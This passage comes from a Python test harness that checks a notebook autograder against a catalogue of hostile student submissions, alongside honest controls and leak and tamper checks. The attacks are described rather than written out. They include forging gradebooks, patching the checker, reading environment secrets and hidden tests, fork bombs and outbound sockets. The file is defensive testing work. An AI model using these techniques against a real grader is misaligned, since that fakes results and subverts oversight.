    _a("int with a payload", "a21-evilint", "task 2 returns an int subclass whose __reduce__/__repr__/__eq__ write files",
       with_answer("task2-answer", _evil_object), zero=("task2-tests",),
       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS),
    _a("DataFrame with a payload", "a22-evilframe", "chapter 08 task 6 returns a DataFrame holding objects with __reduce__",
       with_answer("task6-answer", _evil_dataframe), chapter="08-visualizing", zero=("task6-tests",),
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS + r"|uses exec"),
    # Secrets
    _t3("solutions from the working directory", "a23-huntcwd", "walks up from the cwd to solutions/, prints hidden tests, execs the model answer",
        _hunt_cwd, flags=r"uses .*(exec|reading files|os\.walk|outside the corpus)"),
    _t3("solutions from framelab.__file__", "a24-huntpkg", "walks up from framelab.__file__ to solutions/, prints hidden tests, execs the model answer",
        _hunt_package, flags=r"uses .*(exec|reading files|os\.walk|outside the corpus)"),
    _t3("environment", "a25-environ", "prints os.environ, the ancestors' command lines and /proc/*/environ",
        _environ, flags=r"uses .*os\.environ"),
    # Writing where it must not
    _t3("write into the output folder", "a26-writeout", "forges gradebook.csv, manual-grades.csv and a feedback page in OUT",
        _write_output, flags=SCANNED),
    _t3("write into other submissions", "a27-writesubs", "edits every other submitted notebook and adds a ghost student",
        _write_submissions, flags=SCANNED),
    _t3("write into the repository", "a28-writerepo", "appends `_fail = no-op` to framelab/checks.py, edits solutions/, reloads",
        _write_repository, flags=SCANNED),
    _t3("write into a gradebook database", "a29-writedb", "rewrites every *.db it finds (nbgrader tests -> pass)",
        _write_database, flags=SCANNED),
    _t3("seeds deleted", "a30-seeds", "deletes every file of framelab.corpus.SEEDS", _delete_seeds,
        flags=SCANNED),
    # Processes
    _t3("detached Popen child", "a31-popen", "Popen(start_new_session=True) child that ignores SIGTERM, waits, forges results",
        _detached_popen, flags=KILLED + r"|uses .*subprocess"),
    _t3("fork and setsid", "a32-fork", "os.fork + setsid + double fork, same late rewriter", _detached_fork,
        flags=KILLED + r"|uses .*os\.fork"),
    _t3("fork bomb", "a33-forkbomb", "starts 500 `sleep` processes in new sessions", _fork_bomb,
        keep=_BEFORE3, flags=KILLED + r"|uses .*subprocess"),
    _t3("kill the parent", "a34-killparent", "task 3's function SIGKILLs its parent, then returns the right answer",
        _kill_parent, keep=_BEFORE3, flags=r"not run|uses .*(os\.kill|signal)|stopped|died"),
    _t3("sys.exit in a cell", "a35-sysexit", "sys.exit() at the top of task 3's answer cell", _sys_exit,
        flags=r"uses .*(sys\.exit|exit)|not run|stopped|died"),
    _t3("os._exit in a cell", "a36-osexit", "os._exit(0) at the top of task 3's answer cell", _os_exit,
        keep=_BEFORE3, flags=r"uses .*(_exit|exit)|not run|stopped|died"),
    # Resources
    _t3("2 GB", "a37-memory", "task 3's function fills a 2 GB bytearray, then returns the right answer", _memory,
        keep=_BEFORE3, flags=r"memory limit"),
    _t3("200 MB printed by a cell", "a38-printcell", 'print("x" * 200_000_000) in task 3\'s answer cell', _print_cell,
        keep=_BEFORE3, flags=r"cut at 1 MB"),
    _t3("200 MB printed by the function", "a39-printfn", "task 3's function prints 200 MB when the test calls it",
        _print_function, keep=_BEFORE3, flags=r"cut at 1 MB"),
    _t3("endless loop ignoring SIGINT (function)", "a40-loopfn", "task 3's function ignores SIGINT/SIGTERM and loops forever",
        _loop_function, keep=_BEFORE3, flags=r"stopped after 10 s"),
    _t3("endless loop ignoring SIGINT (cell)", "a41-loopcell", "task 3's answer cell ignores SIGINT and loops forever",
        _loop_cell, keep=_BEFORE3, flags=r"stopped after 10 s"),
    _t3("huge return value", "a42-bigreturn", "task 3's function returns a 300 MB string", _huge_return, keep=_BEFORE3),
    _a("deeply nested return value", "a43-deep", "task 5's function returns a list nested 200,000 deep",
       with_answer("task5-answer", _deep), zero=("task5-tests",), keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests")),
    _t3("forged messages on every fd", "a44-fds", "task 3's function writes fake 'passed' JSON lines to fds 0-255",
        _write_fds, keep=_BEFORE3),
    _t3("closed descriptors", "a45-closefds", "task 3's answer cell closes every file descriptor above 2", _close_fds,
        keep=_BEFORE3),
    _t3("meddling thread", "a46-thread", "a daemon thread keeps re-patching _fail and expect_* while the tests run",
        _threads, flags=r"uses .*(thread|get_ipython|framelab\.checks)|redefines"),
    # Network
    _t3("loopback socket", "a47-loopback", "connects to a listener on 127.0.0.1 and sends a message", _socket_local,
        flags=r"uses .*socket"),
    _t3("public socket", "a48-public", "connects to 1.1.1.1:443, 8.8.8.8:53 and pypi.org:443", _socket_public,
        flags=r"uses .*socket"),
    # Monkeypatching what the tests use
    _t3("framelab.cleaning.clean patched", "a49-clean", "replaces framelab.cleaning.clean (and clean) by a no-op; returns 0.0",
        _monkey_clean, flags=r"redefines clean|uses .*framelab\.cleaning"),
    _a("framelab.plots patched", "a50-plots", "chapter 08 task 2: wrong positions(), plots.term_positions set to it",
       with_answer("task2-answer", _monkey_plots), chapter="08-visualizing", zero=("task2-tests",),
       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"),
       flags=r"redefines .*(plots|term_positions)|uses .*(framelab\.plots|term_positions)|changes .*plots\.term_positions"),
    _a("matplotlib patched", "a51-mpl", "chapter 08 task 3: cut y axis, Axes.get_ylim patched to say it starts at 0",
       with_answer("task3-answer", _monkey_matplotlib), chapter="08-visualizing", zero=("task3-tests",),
       keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests", "task6-tests"),
       flags=r"uses .*(matplotlib|get_ylim|Axes)|redefines|changes .*Axes\.get_ylim"),
    _t3("builtins patched", "a52-builtins", "builtins.isinstance and abs replaced when the test calls the function",
        _builtins, keep=_BEFORE3, flags=r"uses .*builtins|redefines (isinstance|abs)"),
    _t3("sys.modules['framelab.checks']", "a53-sysmodules", "a fake framelab.checks in sys.modules, re-imported",
        _sys_modules, flags=r"uses .*sys\.modules|redefines"),
    _a("shortcut: match_terms", "a54-shortcut", "chapter 07 task 2 answered by calling framelab.frames.match_terms",
       with_answer("task2-answer", _shortcut), chapter="07-framing", zero=("task2-tests",),
       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"), flags=r"calls match_terms"),
    _a("split_sentences redefined", "a55-split", "chapter 02 task 2: hard-coded count_sentences, split_sentences redefined to agree",
       with_answer("task2-answer", _shadow_split, prelude_first=False), chapter="02-tokenizing", zero=("task2-tests",),
       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"), flags=r"redefines split_sentences"),
    _a("close redefined", "a56-close", "chapter 04 task 1: close() redefined to always agree; constant answer",
       with_answer("task1-answer", _shadow_close, prelude_first=False), chapter="04-comparing", zero=("task1-tests",),
       keep=("task2-tests", "task3-tests", "task4-tests", "task6-tests", "task7-tests"), flags=r"redefines close"),
]

# Honest and untouched notebooks graded in the same run: an attack must not change their grades.
CONTROLS: list[Attack] = [
    _a("model answers 01", "c01-model", "control", honest, keep=_CODE01, control=True),
    _a("untouched 01", "c02-untouched", "control", lambda release, answers: copy.deepcopy(release), zero=_CODE01,
       control=True),
    _a("model answers 07", "c07-model", "control", honest, chapter="07-framing",
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"), control=True),
    _a("model answers 08", "c08-model", "control", honest, chapter="08-visualizing",
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"), control=True),
    _a("model answers 09", "c09-model", "control", honest, chapter="09-framing-explorer",
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests"), control=True),
]

EVERYTHING = ATTACKS + CONTROLS


# -- writing the class ------------------------------------------------------------


def write_class(folder: Path, context: Context, entries: Iterable[Attack] = EVERYTHING) -> dict[str, Path]:
    """Write every entry's notebook into ``folder`` (nested layout); student -> path."""
    global CTX
    CTX = context
    loaded: dict[str, tuple] = {}
    written = {}
    for attack in entries:
        if attack.chapter not in loaded:
            loaded[attack.chapter] = sample_class.load(attack.chapter)
        release, answers = loaded[attack.chapter]
        nb = attack.build(copy.deepcopy(release), dict(answers))
        path = sample_class.path_for(Path(folder), attack.student, attack.chapter)
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        written[attack.student] = path
    return written


# -- what a run produced -------------------------------------------------------------


def read_gradebook(output: Path) -> list[dict[str, str]]:
    with (Path(output) / "gradebook.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def release_points(chapter: str) -> dict[str, float]:
    """grade_id -> points of every graded cell of the chapter, from solutions/."""
    nb = nbformat.read(ROOT / "solutions" / chapter / f"{chapter}.ipynb", as_version=4)
    return {_gid(c): float(c.metadata.nbgrader.get("points", 0)) for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade")}


def _number(text: str) -> float | None:
    try:
        return float(text)
    except (TypeError, ValueError):
        return None


def check(attack: Attack, rows: list[dict[str, str]]) -> list[str]:
    """What is wrong with the gradebook rows of ``attack``'s notebook (empty when all is right)."""
    mine = {r["task"]: r for r in rows if r["student"] == attack.student and r["chapter"] == attack.chapter}
    if not mine:
        return [f"no gradebook row for {attack.student} {attack.chapter}"]
    problems = []
    expected = release_points(attack.chapter)
    if set(mine) != set(expected):
        problems.append(f"rows {sorted(mine)} instead of the release's {sorted(expected)}")
    for task, row in mine.items():
        if row["status"] == "not graded":
            problems.append(f"not graded: {row['flags']}")
            continue
        if task in expected and _number(row["max_points"]) != expected[task]:
            problems.append(f"{task}: max_points {row['max_points']} instead of {expected[task]:g}")
        if _number(row["max_total"]) != sum(expected.values()):
            problems.append(f"{task}: max_total {row['max_total']} instead of {sum(expected.values()):g}")
            break
    for task in attack.zero:
        row = mine.get(task)
        if row is None:
            problems.append(f"{task}: no row")
        elif row["status"] != "not graded" and (_number(row["points"]) or 0.0) != 0.0:
            problems.append(f"{task}: scored {row['points']}/{row['max_points']} (must be 0)")
    for task in attack.keep:
        row = mine.get(task)
        if row is None:
            problems.append(f"{task}: no row (must keep full marks)")
        elif row["status"] != "autograded" or _number(row["points"]) != expected.get(task):
            problems.append(f"{task}: {row['status']} {row['points']}/{row['max_points']} (must keep {expected.get(task, 0):g})")
    if attack.flags and attack.row:
        flags = mine.get(attack.row, {}).get("flags", "")
        if not re.search(attack.flags, flags):
            problems.append(f"{attack.row}: flags {flags!r} do not match {attack.flags!r}")
    return problems


# -- secrets that must not appear ---------------------------------------------------

_HIDDEN = re.compile(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", re.S)
_SOLUTION = re.compile(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", re.S)


def _release_lines() -> set[str]:
    lines = set()
    for path in ROOT.glob("exercises/*/*.ipynb"):
        for c in nbformat.read(path, as_version=4).cells:
            lines.update(line.strip() for line in c.source.splitlines())
    return lines


def secret_lines() -> tuple[set[str], set[str]]:
    """(hidden-test lines, model-answer lines) of 25+ characters that students never receive."""
    given = _release_lines()
    hidden, model = set(), set()
    for path in ROOT.glob("solutions/*/*.ipynb"):
        for c in nbformat.read(path, as_version=4).cells:
            for block in _HIDDEN.findall(c.source):
                hidden.update(s for s in (line.strip() for line in block.splitlines()) if len(s) >= 25 and s not in given)
            for block in _SOLUTION.findall(c.source):
                model.update(s for s in (line.strip() for line in block.splitlines()) if len(s) >= 25 and s not in given)
    return hidden, model


def _page_texts(text: str) -> tuple[str, ...]:
    """A page as written, unescaped, and unescaped without its tags (syntax highlighting splits lines)."""
    return text, html.unescape(text), html.unescape(re.sub(r"<[^>]+>", "", text))


def leaks(output: Path, submitted: dict[str, Path]) -> list[str]:
    """Hidden-test and model-answer lines found in feedback pages or gradebook cells.

    A secret line that occurs in the student's own submission (their own code,
    e.g. the model answer they handed in) does not count on their own page or
    rows; any other does, and so does "BEGIN HIDDEN" anywhere.
    """
    hidden, model = secret_lines()
    found = []
    own_text: dict[str, str] = {}

    def own(student: str) -> str:
        if student not in own_text:
            path = submitted.get(student)
            text = ""
            if path is not None and path.exists():
                text = "\n".join(c.source for c in nbformat.read(path, as_version=4).cells)
            own_text[student] = text
        return own_text[student]

    def scan(where: str, text: str, student: str) -> None:
        texts = _page_texts(text)
        if any("BEGIN HIDDEN" in t for t in texts):
            found.append(f"{where}: 'BEGIN HIDDEN'")
        mine = own(student)
        for kind, lines in (("hidden test", hidden), ("model answer", model)):
            for line in lines:
                if line not in mine and any(line in t for t in texts):
                    found.append(f"{where}: {kind} line {line!r}")

    for page in sorted((Path(output) / "feedback").glob("*/*.html")):
        scan(str(page.relative_to(output)), page.read_text(encoding="utf-8", errors="replace"), page.parent.name)
    gradebook = Path(output) / "gradebook.csv"
    if gradebook.exists():
        for row in read_gradebook(output):
            for column, value in row.items():
                scan(f"gradebook.csv {row.get('student')} {row.get('task')} {column}", value or "", row.get("student", ""))
    return found


# -- files, processes ------------------------------------------------------------------


def sha256_tree(folder: Path, skip: Callable[[Path], bool] = lambda p: False) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(Path(folder).rglob("*"))
        if p.is_file() and not skip(p)
    }


def _compiled(path: Path) -> bool:
    return "__pycache__" in path.parts or path.suffix == ".pyc"


def repository_files(root: Path = ROOT) -> list[Path]:
    """git ls-files, plus everything under solutions/ and framelab/ (no bytecode)."""
    listed = subprocess.run(["git", "-C", str(root), "ls-files", "-z"], capture_output=True, check=True).stdout
    paths = {root / name for name in listed.decode().split("\0") if name}
    for folder in ("solutions", "framelab"):
        paths.update(p for p in (root / folder).rglob("*") if p.is_file())
    return sorted(p for p in paths if not _compiled(p))


def snapshot_repository(root: Path = ROOT) -> dict[str, bytes]:
    """relative path -> bytes of every repository file (see :func:`repository_files`); missing files skipped."""
    found = {}
    for path in repository_files(root):
        with contextlib.suppress(OSError):
            found[str(path.relative_to(root))] = path.read_bytes()
    return found


def git_status(root: Path = ROOT) -> str:
    return subprocess.run(["git", "-C", str(root), "status", "--porcelain", "--untracked-files=all"],
                          capture_output=True, text=True, check=True).stdout


def marker_processes(*words: str) -> list[tuple[int, str]]:
    """(pid, command line) of every live process whose arguments contain one of ``words``."""
    found = []
    me = os.getpid()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == me:
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state == "Z":
            continue
        args = [a.decode(errors="replace") for a in argv]
        if any(word in args for word in words):
            found.append((int(entry.name), " ".join(args)[:200]))
    return found


def kill_processes(pids: Iterable[int]) -> None:
    """SIGKILL the given pids (processes the grading of this catalogue started)."""
    import signal

    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def written_traces(context: Context, places: Iterable[Path]) -> list[str]:
    """Files under ``places`` named after the reversed marker, or holding ``context.win`` (a write or a
    connection that got through: an attack prints it when it connects, and writes it into what it forges)."""
    tag = context.win.encode()
    found = []
    for place in places:
        place = Path(place)
        if not place.exists():
            continue
        candidates = [place] if place.is_file() else [p for p in place.rglob("*") if p.is_file()]
        for path in candidates:
            try:
                if context.tag in path.name or (path.stat().st_size < 50_000_000 and tag in path.read_bytes()):
                    found.append(str(path))
            except OSError:
                pass
    return found


def tmp_traces(context: Context) -> list[str]:
    """Files directly in /tmp named after the reversed marker (the late child and the payload objects write there)."""
    return [str(p) for p in Path("/tmp").iterdir() if context.tag in p.name]


def restore_repository(before: dict[str, bytes], context: Context, root: Path = ROOT) -> list[str]:
    """Undo what attacks did to ``root`` (only what they did: files holding the reversed marker, deleted files
    under seeds/, solutions/, framelab/, and new files named after the marker). Returns what was restored."""
    restored = []
    tag = context.tag.encode()
    for name, data in before.items():
        path = root / name
        try:
            now = path.read_bytes()
        except OSError:
            now = None
        if now == data:
            continue
        if (now is None and name.split("/")[0] in ("seeds", "solutions", "framelab", "exercises")) or (
            now is not None and tag in now
        ):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            restored.append(name)
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".git", ".venv", "node_modules")]
        for name in files + dirs:
            path = Path(folder) / name
            if context.tag in name and path.is_file():
                path.unlink()
                restored.append(str(path.relative_to(root)))
            elif context.tag in name and path.is_dir():
                import shutil

                shutil.rmtree(path, ignore_errors=True)
                restored.append(str(path.relative_to(root)))
    return restored
